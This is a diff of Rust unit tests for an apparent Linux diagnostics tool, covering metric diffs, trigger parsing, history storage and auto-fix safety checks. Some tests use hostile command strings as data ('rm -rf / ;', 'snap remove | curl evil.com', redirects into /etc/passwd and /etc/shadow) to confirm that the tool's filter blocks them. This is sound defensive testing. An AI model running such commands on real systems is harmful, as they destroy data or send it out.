+            hostname: "box".to_string(),
+            kernel: "6.8.0".to_string(),
+            distro: "Fedora".to_string(),
+            uptime_seconds: 60,
+            machine_id: None,
+            metrics,
+            findings,
+            recent_dmesg: None,
+            recent_journal: None,
+        };
+        let before = snapshot(
+            Metrics {
+                cpu_usage: Some(85.0),
+                temperature_c: Some(90.0),
+                wifi_signal_dbm: Some(-75.0),
+                ..Default::default()
+            },
+            vec![finding("cpu_high"), finding("hot")],
+        );
+        let after = snapshot(
+            Metrics {
+                cpu_usage: Some(20.0),
+                wifi_signal_dbm: Some(-60.0),
+                gpu: Some(GpuDetails {
+                    vendor: "amd".to_string(),
+                    temperature: Some(55.0),
+                    ..Default::default()
+                }),
+                ..Default::default()
+            },
+            vec![finding("hot"), finding("disk_almost_full")],
+        );
 
-        let condition = Condition::MemGreater(80.0);
-        assert!(condition_holds(&condition, &metrics, None));
+        let deltas = diff::metric_deltas(&before, &after);
+        let cpu = deltas.iter().find(|d| d.name == "cpu_usage").unwrap();
+        assert_eq!(cpu.delta(), Some(-65.0));
+        assert_eq!(cpu.regression(), Some(false));
+        let signal = deltas.iter().find(|d| d.name == "wifi_signal_dbm").unwrap();
+        assert_eq!(signal.regression(), Some(false));
+        let temp = deltas.iter().find(|d| d.name == "temperature_c").unwrap();
+        assert_eq!(
+            (temp.before, temp.after, temp.delta()),
+            (Some(90.0), None, None)
+        );
+        let gpu = deltas.iter().find(|d| d.name == "gpu.temperature").unwrap();
+        assert_eq!((gpu.before, gpu.after), (None, Some(55.0)));
+        assert!(!deltas.iter().any(|d| d.name == "gpu.fan_speed_percent"));
+        assert!(metric_delta_row(cpu).contains("-65.0"));
+
+        let (resolved, appeared) = diff::finding_delta(&before, &after);
+        assert_eq!(resolved, vec!["cpu_high".to_string()]);
+        assert_eq!(appeared, vec!["disk_almost_full".to_string()]);
+
+        // A written snapshot reads back, and one from before a metric existed
+        // still loads with that metric unset
+        let mut json = serde_json::to_value(&after).unwrap();
+        json["metrics"]
+            .as_object_mut()
+            .unwrap()
+            .remove("iowait_percent");
+        let reread: SnapshotData = serde_json::from_value(json).unwrap();
+        assert_eq!(reread.metrics.cpu_usage, Some(20.0));
+        assert_eq!(reread.metrics.iowait_percent, None);
+    }
 
-        let condition = Condition::MemGreater(90.0);
-        assert!(!condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_registry_parses_like_the_strip_prefix_chain() {
+        // Recorded from the strip_prefix chain the registry replaced
+        let expected = [
+            (
+                "env[HOME]=/root",
+                "Some(EnvEquals { var: \"HOME\", value: \"/root\" })",
+            ),
+            (
+                "env_set[WAYLAND_DISPLAY]=true",
+                "Some(EnvSet { var: \"WAYLAND_DISPLAY\", set: true })",
+            ),
+            ("cpu>80", "Some(CpuGreater(80.0))"),
+            ("cpu<5", "Some(CpuLess(5.0))"),
+            ("mem>90", "Some(MemGreater(90.0))"),
+            ("mem<20", "Some(MemLess(20.0))"),
+            ("total_ram<4096", "Some(TotalRamLess(4096))"),
+            ("total_ram>16384", "Some(TotalRamGreater(16384))"),
+            ("swap>50", "Some(SwapGreater(50.0))"),
+            ("loadavg>8", "Some(LoadAvgGreater(8.0))"),
+            (
+                "process_mem_pct[firefox]>25",
+                "Some(ProcessMemPercentGreater { name: \"firefox\", percent: 25.0 })",
+            ),
+            ("process=chrome", "Some(ProcessContains(\"chrome\"))"),
+            ("process_count>200", "Some(ProcessCountGreater(200))"),
+            (
+                "log_contains=I/O error",
+                "Some(LogContains(Regex(\"I/O error\")))",
+            ),
+            ("disk_full>85", "Some(DiskFullGreater(85.0))"),
+            ("inodes_full>90", "Some(InodeFullGreater(90.0))"),
+            ("snap loops>50", "Some(SnapLoopsGreater(50))"),
+            ("flatpak_unused>10", "Some(FlatpakUnusedGreater(10))"),
+            ("battery_drain>15", "Some(BatteryDrainGreater(15.0))"),
+            ("wifi_channel_count>3", "Some(WifiChannelCountGreater(3))"),
+            ("wifi_signal<-70", "Some(WifiSignalLess(-70.0))"),
+            ("fan_speed>3000", "Some(FanSpeedGreater(3000.0))"),
+            ("temp>80", "Some(TemperatureGreater(80.0))"),
+            ("filesystem=btrfs", "Some(FilesystemEquals(\"btrfs\"))"),
+            ("wayland_vs_x11=x11", "Some(WaylandVsX11(\"x11\"))"),
+            ("docker_dangling>5", "Some(DockerDanglingGreater(5))"),
+            ("pipewire_latency>40", "Some(PipewireLatencyGreater(40.0))"),
+            ("firefox_soft_render=true", "Some(FirefoxSoftRender(true))"),
+            ("zfs_arc_full>90", "Some(ZfsArcPercentGreater(90.0))"),
+            ("luks_devices>0", "Some(LuksDevicesGreater(0))"),
+            ("gpu_vendor=nvidia", "Some(GpuVendorEquals(\"nvidia\"))"),
+            ("gpu_temp>85", "Some(GpuTempGreater(85.0))"),
+            ("gpu_temp<30", "Some(GpuTempLess(30.0))"),
+            ("gpu_util>95", "Some(GpuUtilGreater(95.0))"),
+            ("gpu_mem_util>85", "Some(GpuMemUtilGreater(85.0))"),
+            ("gpu_mem_used_mb>7000", "Some(GpuMemUsedGreater(7000.0))"),
+            (
+                "prime_offload=disabled",
+                "Some(PrimeOffloadEquals(\"disabled\"))",
+            ),
+            ("gamescope_running=true", "Some(GamescopeRunning(true))"),
+            ("steam_running=true", "Some(SteamRunning(true))"),
+            ("proton_failures=true", "Some(ProtonFailures(true))"),
+            ("gpu_driver_mismatch=true", "Some(GpuDriverMismatch(true))"),
+            ("gpu_underclocked=true", "Some(GpuUnderclocked(true))"),
+            ("hw_encoder_missing=true", "Some(HwEncoderMissing(true))"),
+            (
+                "vulkan_loader_missing=true",
+                "Some(VulkanLoaderMissing(true))",
+            ),
+            ("conntrack_usage>90", "Some(ConntrackUsageGreater(90.0))"),
+            ("tmpfs_full>90", "Some(TmpfsFullGreater(90.0))"),
+            ("unit_restarts>10", "Some(UnitRestartsGreater(10))"),
+            ("firmware_updates>0", "Some(FirmwareUpdatesGreater(0))"),
+            ("coredump_size_mb>1024", "Some(CoredumpSizeGreater(1024.0))"),
+            ("stale_mount=true", "Some(StaleMount(true))"),
+            ("iowait>30", "Some(IowaitGreater(30.0))"),
+            ("vulkan_device_count<1", "Some(VulkanDeviceCountLess(1))"),
+            ("!cpu>5", "Some(Not(CpuGreater(5.0)))"),
+            (
+                "process_mem_pct[ Firefox ]>25",
+                "Some(ProcessMemPercentGreater { name: \"firefox\", percent: 25.0 })",
+            ),
+            ("gpu_vendor= NVIDIA", "Some(GpuVendorEquals(\"nvidia\"))"),
+            (
+                "prime_offload=ENABLED",
+                "Some(PrimeOffloadEquals(\"enabled\"))",
+            ),
+            ("prime_offload=false", "None"),
+            ("cpu> abc", "None"),
+            ("process_mem_pct[]>5", "None"),
+            ("env[A-B]=x", "None"),
+            ("steam_running=maybe", "None"),
+            ("log_contains=(", "None"),
+            ("bogus>1", "None"),
+            ("snap loops> 3", "Some(SnapLoopsGreater(3))"),
+            ("process= chrome ", "Some(ProcessContains(\"chrome\"))"),
+        ];
+        for (token, parsed) in expected {
+            assert_eq!(format!("{:?}", parse_condition(token)), parsed, "{token}");
+        }
     }
 
     #[test]
-    fn test_condition_holds_process() {
-        let metrics = Metrics {
-            cpu_usage: 50.0,
-            mem_usage: 50.0,
-            total_ram_mb: 16000,
-            disk_full_percent: 50.0,
-            filesystem: None,
-            snap_loops: None,
-            flatpak_unused: None,
-            battery_drain_w: None,
-            wifi_channel_count: None,
-            wifi_signal_dbm: None,
-            fan_speed_rpm: None,
-            temperature_c: None,
-            wayland_vs_x11: None,
-            docker_dangling: None,
-            process_names: vec![
-                "systemd".to_string(),
-                "chrome".to_string(),
-                "firefox".to_string(),
-            ],
-            process_count: 3,
-            pipewire_latency_ms: None,
-            firefox_soft_render: None,
-            zfs_arc_full_percent: None,
-            luks_device_count: None,
-            gpu: None,
-            prime_offload_enabled: false,
-            gamescope_running: false,
-            steam_running: false,
-            proton_failure_detected: false,
-            vulkan_loader_missing: false,
+    fn test_classify_captive_probe() {
+        assert_eq!(classify_captive_probe(204, None, ""), CaptiveProbe::Open);
+        assert_eq!(classify_captive_probe(200, None, "\n"), CaptiveProbe::Open);
+        let redirect = classify_captive_probe(302, Some("http://portal.hotel/login"), "");
+        assert_eq!(
+            redirect,
+            CaptiveProbe::Portal(Some("http://portal.hotel/login".to_string()))
+        );
+        assert_eq!(
+            classify_captive_probe(200, None, "<html>Accept terms</html>"),
+            CaptiveProbe::Portal(None)
+        );
+        assert_eq!(
+            classify_captive_probe(503, None, ""),
+            CaptiveProbe::Unexpected(503)
+        );
+
+        let line = captive_probe_line(&redirect);
+        assert!(matches!(line.level, InsightLevel::Warning));
+        assert!(line.message.contains("portal.hotel"));
+        assert!(matches!(
+            captive_probe_line(&CaptiveProbe::Open).level,
+            InsightLevel::Good
+        ));
+    }
+
+    #[test]
+    fn test_metric_history_round_trip() {
+        let conn = Connection::open_in_memory().unwrap();
+        create_history_tables(&conn).unwrap();
+        create_history_tables(&conn).unwrap();
+        for (i, cpu) in [10.0, 55.5, 90.0].into_iter().enumerate() {
+            let metrics = Metrics {
+                cpu_usage: Some(cpu),
+                temperature_c: (i != 1).then_some(40.0 + i as f32),
+                ..Default::default()
+            };
+            record_metrics(&conn, &format!("2026-10-14T10:0{i}:00+00:00"), &metrics).unwrap();
+        }
+
+        let cpu = metric_history(&conn, HistoryMetric::Cpu, 60).unwrap();
+        let values: Vec<f64> = cpu.iter().map(|(_, value)| *value).collect();
+        assert_eq!(values, vec![10.0, 55.5, 90.0]);
+        assert_eq!(cpu[0].0, "2026-10-14T10:00:00+00:00");
+        let last_two = metric_history(&conn, HistoryMetric::Cpu, 2).unwrap();
+        assert_eq!(last_two[0].1, 55.5);
+        let temps = metric_history(&conn, HistoryMetric::Temperature, 60).unwrap();
+        assert_eq!(temps.len(), 2);
+        assert!(metric_history(&conn, HistoryMetric::GpuTemp, 60)
+            .unwrap()
+            .is_empty());
+
+        // A run that did not sample the CPU adds no CPU point, but still a RAM one
+        let unsampled = Metrics {
+            mem_usage: 30.0,
+            ..Default::default()
         };
+        record_metrics(&conn, "2026-10-14T10:03:00+00:00", &unsampled).unwrap();
+        assert_eq!(
+            metric_history(&conn, HistoryMetric::Cpu, 60).unwrap().len(),
+            3
+        );
+        let mem = metric_history(&conn, HistoryMetric::Mem, 60).unwrap();
+        assert_eq!(mem.last().unwrap().1, 30.0);
 
-        let condition = Condition::ProcessContains("chrome".to_string());
-        assert!(condition_holds(&condition, &metrics, None));
+        assert_eq!(text_sparkline(&[0, 45, 90]), "▁▄█");
+        assert_eq!(text_sparkline(&[0, 0]), "▁▁");
+    }
 
-        let condition = Condition::ProcessContains("spotify".to_string());
-        assert!(!condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_prune_history_keeps_recent_rows() {
+        let conn = Connection::open_in_memory().unwrap();
+        create_history_tables(&conn).unwrap();
+        let now = DateTime::parse_from_rfc3339("2026-10-14T12:00:00+00:00")
+            .unwrap()
+            .with_timezone(&Utc);
+        let ages = [400, 91, 89, 1, 0];
+        for days in ages {
+            let ts = history_cutoff(now, days).to_rfc3339();
+            conn.execute(
+                "INSERT INTO findings(ts, severity, message, solution, finding_id)
+                 VALUES (?1, '🟡 5', ?2, 's', 'r')",
+                params![ts, format!("{days}d")],
+            )
+            .unwrap();
+            conn.execute(
+                "INSERT INTO metrics(ts, cpu, mem, disk) VALUES (?1, 10, 20, 30)",
+                params![ts],
+            )
+            .unwrap();
+            conn.execute(
+                "INSERT INTO battery(ts, capacity_full, capacity_design) VALUES (?1, 90, 100)",
+                params![ts],
+            )
+            .unwrap();
+            conn.execute(
+                "INSERT INTO runs(ts, finding_ids) VALUES (?1, '[]')",
+                params![ts],
+            )
+            .unwrap();
+        }
+
+        let removed = prune_history(&conn, history_cutoff(now, 90)).unwrap();
+        assert_eq!(removed, 2 * HISTORY_TIMED_TABLES.len());
+        let mut stmt = conn
+            .prepare("SELECT message FROM findings ORDER BY ts")
+            .unwrap();
+        let kept: Vec<String> = stmt
+            .query_map([], |row| row.get(0))
+            .unwrap()
+            .collect::<rusqlite::Result<_>>()
+            .unwrap();
+        assert_eq!(kept, vec!["89d", "1d", "0d"]);
+        for table in ["metrics", "battery", "runs"] {
+            let count: i64 = conn
+                .query_row(&format!("SELECT COUNT(*) FROM {table}"), [], |row| {
+                    row.get(0)
+                })
+                .unwrap();
+            assert_eq!(count, 3, "{table}");
+        }
+        assert_eq!(prune_history(&conn, history_cutoff(now, 90)).unwrap(), 0);
     }
 
     #[test]
-    fn test_condition_holds_gpu_temp() {
-        let gpu = GpuDetails {
-            vendor: "nvidia".to_string(),
-            model: Some("RTX 3080".to_string()),
-            driver: Some("535.98".to_string()),
-            temperature: Some(82.0),
-            utilization: Some(95.0),
-            memory_total_mb: Some(10240.0),
-            memory_used_mb: Some(8192.0),
-            fan_speed_percent: Some(75.0),
-        };
+    fn test_parse_unit_kills() {
+        let journal = "\
+Oct 14 09:58:02 box systemd-oomd[812]: Considered 54 cgroups for killing, top candidates were:
+Oct 14 09:58:02 box systemd-oomd[812]: Killed /user.slice/user-1000.slice/user@1000.service/app.slice/app-gnome-firefox-4242.scope due to memory pressure for /user.slice/user-1000.slice/user@1000.service being 62.35% > 50.00% for > 20s with reclaim activity
+Oct 14 10:01:10 box systemd[1]: postgresql.service: A process of this unit has been killed by the OOM killer.
+Oct 14 10:01:10 box systemd[1]: postgresql.service: Failed with result 'oom-kill'.
+Oct 14 10:05:00 box systemd[1]: mqtt-bridge.service: Watchdog timeout (limit 30s)!
+Oct 14 10:05:00 box systemd[1]: mqtt-bridge.service: Killing process 991 (bridge) with signal SIGABRT.
+Oct 14 10:05:01 box systemd[1]: mqtt-bridge.service: Failed with result 'watchdog'.
+Oct 14 10:09:00 box systemd[1]: mqtt-bridge.service: Watchdog timeout (limit 30s)!
+";
+        let kills = parse_unit_kills(journal);
+        let units: Vec<(&str, UnitKillCause)> = kills
+            .iter()
+            .map(|kill| (kill.unit.as_str(), kill.cause))
+            .collect();
+        assert_eq!(
+            units,
+            vec![
+                ("mqtt-bridge.service", UnitKillCause::Watchdog),
+                ("mqtt-bridge.service", UnitKillCause::Watchdog),
+                ("postgresql.service", UnitKillCause::OomKiller),
+                ("app-gnome-firefox-4242.scope", UnitKillCause::Oomd),
+            ]
+        );
+        assert_eq!(kills[3].when, "Oct 14 09:58:02 box");
+
+        let lines = unit_kill_lines(&kills);
+        assert_eq!(lines.len(), 3);
+        assert!(lines[0].message.contains("mqtt-bridge.service"));
+        assert!(lines[0].message.contains('2'));
+        assert!(lines[0].message.contains("10:09:00"));
+        assert!(matches!(unit_kill_lines(&[])[0].level, InsightLevel::Good));
+
+        // oomd's own journal holds an older and a newer kill than the shared buffer
+        let oomd = "\
+Oct 13 22:00:00 box systemd-oomd[812]: Killed /user.slice/app-old.scope due to memory pressure
+Oct 14 11:30:00 box systemd-oomd[812]: Killed /user.slice/app-new.scope due to memory pressure
+";
+        let merged = merge_unit_kills(journal, oomd);
+        let order: Vec<&str> = merged.iter().map(|kill| kill.unit.as_str()).collect();
+        assert_eq!(
+            order,
+            vec![
+                "app-new.scope",
+                "mqtt-bridge.service",
+                "mqtt-bridge.service",
+                "postgresql.service",
+                "app-gnome-firefox-4242.scope",
+                "app-old.scope",
+            ]
+        );
+        assert_eq!(merge_unit_kills(journal, journal).len(), kills.len());
+        assert!(journal_time("2026-10-14T09:58:02+0000 box").is_some());
+    }
 
+    #[test]
+    fn test_history_false_rule_is_shown_but_not_logged() {
+        let rules: Vec<Rule> = toml::from_str::<RulesFile>(
+            r#"
+[[rule]]
+name = "cpu_blip"
+trigger = "cpu>50"
+message = "CPU spike"
+solution = "Wait"
+severity = 6
+history = false
+
+[[rule]]
+name = "disk_full"
+trigger = "disk_full>90"
+message = "Disk full"
+solution = "Free some space"
+severity = 9
+"#,
+        )
+        .unwrap()
+        .rule;
+        assert!(!rules[0].history);
+        assert!(rules[1].history);
+        let parsed: Vec<(Trigger, Rule)> = rules
+            .into_iter()
+            .map(|rule| (parse_trigger(&rule.trigger), rule))
+            .collect();
         let metrics = Metrics {
-            cpu_usage: 50.0,
-            mem_usage: 50.0,
-            total_ram_mb: 16000,
-            disk_full_percent: 50.0,
-            filesystem: None,
-            snap_loops: None,
-            flatpak_unused: None,
-            battery_drain_w: None,
-            wifi_channel_count: None,
-            wifi_signal_dbm: None,
-            fan_speed_rpm: None,
-            temperature_c: None,
-            wayland_vs_x11: None,
-            docker_dangling: None,
-            process_names: vec![],
-            process_count: 0,
-            pipewire_latency_ms: None,
-            firefox_soft_render: None,
-            zfs_arc_full_percent: None,
-            luks_device_count: None,
-            gpu: Some(gpu),
-            prime_offload_enabled: false,
-            gamescope_running: false,
-            steam_running: false,
-            proton_failure_detected: false,
-            vulkan_loader_missing: false,
+            cpu_usage: Some(95.0),
+            disk_full_percent: 97.0,
+            ..Default::default()
         };
-
-        let condition = Condition::GpuTempGreater(80.0);
-        assert!(condition_holds(&condition, &metrics, None));
-
-        let condition = Condition::GpuTempGreater(85.0);
-        assert!(!condition_holds(&condition, &metrics, None));
+        let findings = evaluate_rules(&metrics, &parsed);
+        assert_eq!(findings.len(), 2);
+
+        let worthy = history_worthy(&findings, &parsed, 0);
+        assert_eq!(worthy.len(), 1);
+        assert_eq!(worthy[0].rule_name, "disk_full");
+        assert!(history_worthy(&findings, &parsed, 10).is_empty());
+
+        let db = temp_history_db("history-rule");
+        log_to_history(&db.path, &findings, &parsed, &metrics, true).unwrap();
+        let conn = open_history_db(&db.path).unwrap();
+        let logged: Vec<String> = conn
+            .prepare("SELECT message FROM findings")
+            .unwrap()
+            .query_map([], |row| row.get(0))
+            .unwrap()
+            .collect::<rusqlite::Result<_>>()
+            .unwrap();
+        assert_eq!(logged, vec!["Disk full".to_string()]);
     }
 
     #[test]
-    fn test_condition_holds_gpu_vendor() {
-        let gpu = GpuDetails {
-            vendor: "amd".to_string(),
-            model: Some("RX 7900 XTX".to_string()),
-            driver: Some("mesa 24.0".to_string()),
-            temperature: Some(70.0),
-            utilization: Some(50.0),
-            memory_total_mb: Some(24576.0),
-            memory_used_mb: Some(4096.0),
-            fan_speed_percent: Some(60.0),
+    fn test_offered_fixes_for_dry_run() {
+        let finding = |rule: &str, severity: u8, auto_fix: Option<&str>| Finding {
+            auto_fix: auto_fix.map(str::to_string),
+            actionable: auto_fix.is_some(),
+            ..test_finding(rule, severity)
         };
+        let findings = vec![
+            finding("docker", 6, Some("docker image prune -f")),
+            finding("evil", 9, Some("rm -rf / ; true")),
+            finding("info", 8, None),
+            finding("baloo", 7, Some("balooctl disable")),
+            finding("snap", 2, Some("snap remove foo")),
+        ];
+        let fixes = offered_fixes(&findings);
+        let commands: Vec<(&str, &str)> = fixes
+            .iter()
+            .map(|(finding, cmd)| (finding.rule_name.as_str(), *cmd))
+            .collect();
+        // Top three by severity are evil, info and baloo; only baloo is offered
+        assert_eq!(commands, vec![("baloo", "balooctl disable")]);
+        assert!(offered_fixes(&findings[2..3]).is_empty());
+    }
 
-        let metrics = Metrics {
-            cpu_usage: 50.0,
-            mem_usage: 50.0,
-            total_ram_mb: 16000,
-            disk_full_percent: 50.0,
-            filesystem: None,
-            snap_loops: None,
-            flatpak_unused: None,
-            battery_drain_w: None,
-            wifi_channel_count: None,
-            wifi_signal_dbm: None,
-            fan_speed_rpm: None,
-            temperature_c: None,
-            wayland_vs_x11: None,
-            docker_dangling: None,
-            process_names: vec![],
-            process_count: 0,
-            pipewire_latency_ms: None,
-            firefox_soft_render: None,
-            zfs_arc_full_percent: None,
-            luks_device_count: None,
-            gpu: Some(gpu),
-            prime_offload_enabled: false,
-            gamescope_running: false,
-            steam_running: false,
-            proton_failure_detected: false,
-            vulkan_loader_missing: false,
+    #[test]
+    fn test_gpu_baseline_delta() {
+        let gpu = |temperature: f32, utilization: f32| GpuDetails {
+            vendor: "nvidia".to_string(),
+            model: Some("RTX 3070".to_string()),
+            temperature: Some(temperature),
+            utilization: Some(utilization),
+            ..Default::default()
+        };
+        let clocks = |core_mhz: f32, power_w: f32| GpuClocks {
+            gpu: "RTX 3070".to_string(),
+            utilization: None,
+            core_mhz,
+            core_max_mhz: 1900.0,
+            mem_mhz: Some(7000.0),
+            mem_max_mhz: Some(7000.0),
+            power_w: Some(power_w),
         };
+        let saved = gpu_reading(&gpu(68.0, 95.0), Some(&clocks(1890.0, 220.0)));
+        let hot = gpu_reading(&gpu(79.0, 97.0), Some(&clocks(1500.0, 160.0)));
+
+        let delta = gpu_delta(&saved, &hot);
+        assert_eq!(delta.temperature, Some(11.0));
+        assert_eq!(delta.utilization, Some(2.0));
+        assert_eq!(delta.core_mhz, Some(-390.0));
+        assert_eq!(delta.mem_mhz, Some(0.0));
+        assert_eq!(delta.power_w, Some(-60.0));
+        assert_eq!(delta.fan_speed_percent, None);
+        let lines = gpu_delta_lines(&delta);
+        assert_eq!(lines.len(), 3);
+        assert!(lines[1].message.contains("11"));
+        assert!(matches!(lines[2].level, InsightLevel::Warning));
+
+        let same = gpu_reading(&gpu(69.0, 93.0), Some(&clocks(1875.0, 218.0)));
+        let lines = gpu_delta_lines(&gpu_delta(&saved, &same));
+        assert!(matches!(lines.last().unwrap().level, InsightLevel::Good));
+
+        // Idle now: the higher baseline temperature says nothing
+        let idle = gpu_reading(&gpu(40.0, 3.0), Some(&clocks(300.0, 25.0)));
+        let lines = gpu_delta_lines(&gpu_delta(&saved, &idle));
+        assert_eq!(lines.len(), 2);
+        assert!(matches!(lines[1].level, InsightLevel::Info));
+
+        // Each band keeps its own baseline, and compare picks the current one
+        let mut store = baseline::BaselineStore::default();
+        store.set_gpu(saved.clone());
+        store.set_gpu(idle.clone());
+        assert_eq!(idle.band(), baseline::GpuLoadBand::Idle);
+        assert_eq!(store.gpu(hot.band()), Some(&saved));
+        assert_eq!(store.gpu(baseline::GpuLoadBand::Idle), Some(&idle));
+        assert_eq!(
+            baseline::BaselineStore::default().gpu(baseline::GpuLoadBand::Load),
+            None
+        );
+    }
 
-        let condition = Condition::GpuVendorEquals("amd".to_string());
-        assert!(condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_auto_fix_whitelist_from_config() {
+        let config = config::parse_config(
+            "[autofix]\nallow = [\"tlp\", \"powertop --auto-tune\", \"rm -rf / ;\", \" \"]",
+        )
+        .unwrap();
+        let allow = &config.autofix.allow;
+        assert!(is_safe_auto_fix_with("tlp start", allow));
+        assert!(is_safe_auto_fix_with("powertop --auto-tune", allow));
+        assert!(!is_safe_auto_fix_with("tlpx start", allow));
+        assert!(!is_safe_auto_fix_with("powertop", allow));
+        // Metacharacters stay blocked in the command and in the whitelist entry
+        assert!(!is_safe_auto_fix_with("tlp start; reboot", allow));
+        assert!(!is_safe_auto_fix_with("rm -rf / ;", allow));
+        assert!(!is_safe_auto_fix_with("rm -rf /", allow));
+        // The blank entry allows nothing extra
+        assert!(!is_safe_auto_fix_with("reboot", allow));
+        assert!(is_safe_auto_fix_with("balooctl", allow));
+    }
 
-        let condition = Condition::GpuVendorEquals("nvidia".to_string());
-        assert!(!condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_exit_codes_explained() {
+        let finding = |severity: u8| test_finding("rule", severity);
+        assert_eq!(exit_code(&[]), EXIT_CLEAN);
+        assert_eq!(exit_code(&[finding(4)]), EXIT_CLEAN);
+        assert_eq!(exit_code(&[finding(4), finding(5)]), EXIT_WARNINGS);
+        assert_eq!(exit_code(&[finding(8), finding(6)]), EXIT_CRITICAL);
+
+        let explained = |code| explain_exit_code(code).unwrap();
+        assert!(explained(0).starts_with("0: No warnings"));
+        assert!(explained(10).starts_with("10: At least one warning (severity 5-7)"));
+        assert!(explained(20).starts_with("20: At least one critical finding (severity 8"));
+        assert!(explained(20).contains("1-4 informational, 5-7 warning, 8-10 critical"));
+        // Failures never share a code with findings
+        assert!(explained(1).starts_with("1: why failed"));
+        assert!(explained(2).starts_with("2: Invalid command line"));
+        assert!(explain_exit_code(3).is_err());
+        assert!(explain_exit_code(-1).is_err());
     }
 
     #[test]
-    fn test_condition_holds_steam_running() {
-        let metrics = Metrics {
-            cpu_usage: 50.0,
-            mem_usage: 50.0,
-            total_ram_mb: 16000,
-            disk_full_percent: 50.0,
-            filesystem: None,
-            snap_loops: None,
-            flatpak_unused: None,
-            battery_drain_w: None,
-            wifi_channel_count: None,
-            wifi_signal_dbm: None,
-            fan_speed_rpm: None,
-            temperature_c: None,
-            wayland_vs_x11: None,
-            docker_dangling: None,
-            process_names: vec![],
-            process_count: 0,
-            pipewire_latency_ms: None,
-            firefox_soft_render: None,
-            zfs_arc_full_percent: None,
-            luks_device_count: None,
-            gpu: None,
-            prime_offload_enabled: false,
-            gamescope_running: false,
-            steam_running: true,
-            proton_failure_detected: false,
-            vulkan_loader_missing: false,
-        };
+    fn test_fix_log_appends_lines() {
+        let dir = std::env::temp_dir().join(format!("why-fixes-{}", std::process::id()));
+        let path = dir.join("cache").join(FIXES_LOG_FILE);
+        let first = fix_log_line(
+            "2026-01-02T03:04:05+00:00",
+            "baloo_hog",
+            "balooctl disable",
+            "0",
+        );
+        assert_eq!(
+            first,
+            "[2026-01-02T03:04:05+00:00] baloo_hog (exit 0): balooctl disable"
+        );
+        append_fix_log(&path, &first).unwrap();
+        append_fix_log(
+            &path,
+            &fix_log_line("later", "snap_cleanup", "snap remove x", "1"),
+        )
+        .unwrap();
+        let log = fs::read_to_string(&path).unwrap();
+        let _ = fs::remove_dir_all(&dir);
+        assert_eq!(
+            log,
+            format!("{first}\n[later] snap_cleanup (exit 1): snap remove x\n")
+        );
+    }
 
-        let condition = Condition::SteamRunning(true);
-        assert!(condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_tui_selection_moves_and_clamps() {
+        assert_eq!(tui_selection(0, Some(KeyCode::Down), 3), 1);
+        assert_eq!(tui_selection(1, Some(KeyCode::Char('j')), 3), 2);
+        assert_eq!(tui_selection(2, Some(KeyCode::Down), 3), 2);
+        assert_eq!(tui_selection(2, Some(KeyCode::Char('k')), 3), 1);
+        assert_eq!(tui_selection(0, Some(KeyCode::Up), 3), 0);
+        assert_eq!(tui_selection(1, Some(KeyCode::Char('x')), 3), 1);
+        // A refresh with fewer findings pulls the selection back
+        assert_eq!(tui_selection(5, None, 2), 1);
+        assert_eq!(tui_selection(1, None, 0), 0);
+    }
 
-        let condition = Condition::SteamRunning(false);
-        assert!(!condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_zombies_attributed_to_parent() {
+        let stats: Vec<ProcStat> = [
+            "1 (systemd) S 0 1 1 0 -1",
+            "812 (my (super)visor) S 1 812 812 0 -1",
+            "900 (worker) Z 812 812 812 0 -1",
+            "901 (worker) Z 812 812 812 0 -1",
+            "902 (worker) Z 812 812 812 0 -1",
+            "903 (worker) Z 812 812 812 0 -1",
+            "904 (worker) Z 812 812 812 0 -1",
+            "950 (sh) Z 4242 4242 4242 0 -1",
+            "960 (bash) S 812 960 960 0 -1",
+        ]
+        .iter()
+        .filter_map(|line| parse_proc_stat(line))
+        .collect();
+        assert_eq!(stats.len(), 9);
+        assert_eq!(stats[1].comm, "my (super)visor");
+
+        assert_eq!(
+            zombie_parents(&stats),
+            vec![
+                (812, "my (super)visor".to_string(), 5),
+                (4242, "?".to_string(), 1),
+            ]
+        );
+        let lines = zombie_lines(&stats);
+        assert_eq!(lines.len(), 3);
+        assert!(matches!(lines[1].level, InsightLevel::Warning));
+        assert!(lines[1].message.contains("pid 812"));
+        assert!(matches!(lines[2].level, InsightLevel::Info));
+        assert!(zombie_lines(&stats[..2]).is_empty());
     }
 
-    // Security Tests
     #[test]
-    fn test_is_safe_auto_fix_blocks_command_injection() {
-        // Test shell metacharacter blocking
-        assert!(!is_safe_auto_fix("snap remove; rm -rf /"));
-        assert!(!is_safe_auto_fix("snap remove | curl evil.com"));
-        assert!(!is_safe_auto_fix("snap remove && malicious"));
-        assert!(!is_safe_auto_fix("snap remove `whoami`"));
-        assert!(!is_safe_auto_fix("snap remove $HOME"));
-        assert!(!is_safe_auto_fix("snap remove > /etc/passwd"));
-        assert!(!is_safe_auto_fix("snap remove < /etc/shadow"));
-        assert!(!is_safe_auto_fix("snap remove\nwhoami"));
-        assert!(!is_safe_auto_fix("snap remove(malicious)"));
-        assert!(!is_safe_auto_fix("snap remove{bad}"));
+    fn test_battery_wear_trend() {
+        let conn = Connection::open_in_memory().unwrap();
+        create_history_tables(&conn).unwrap();
+        let record = |ts: &str, full: f64| {
+            record_battery_capacity(&conn, ts, (full, 50_000_000.0)).unwrap();
+        };
+        record("2026-01-01T08:00:00+00:00", 48_000_000.0);
+        // Same day: only the first run counts
+        record("2026-01-01T20:00:00+00:00", 10_000_000.0);
+        record("2026-02-15T08:00:00+00:00", 47_000_000.0);
+        record("2026-04-01T08:00:00+00:00", 45_500_000.0);
+        let rows = battery_history(&conn).unwrap();
+        assert_eq!(rows.len(), 3);
+
+        let trend = battery_wear_trend(&rows).unwrap();
+        assert_eq!(trend.first_ts, "2026-01-01T08:00:00+00:00");
+        assert!((trend.first_wear - 4.0).abs() < 1e-9);
+        assert!((trend.last_wear - 9.0).abs() < 1e-9);
+        // 5 points over 90 days
+        assert!((trend.per_month.unwrap() - 5.0 / 3.0).abs() < 1e-9);
+
+        // 2 points over 45 days
+        let early = battery_wear_trend(&rows[..2]).unwrap().per_month.unwrap();
+        assert!((early - 4.0 / 3.0).abs() < 1e-9);
+        let short = battery_wear_trend(&rows[..1]).unwrap();
+        assert_eq!(short.first_wear, short.last_wear);
+        assert_eq!(short.per_month, None);
+        assert_eq!(battery_wear_trend(&[]), None);
+        assert_eq!(battery_wear_trend(&[("x".to_string(), 1.0, 0.0)]), None);
     }
 
     #[test]
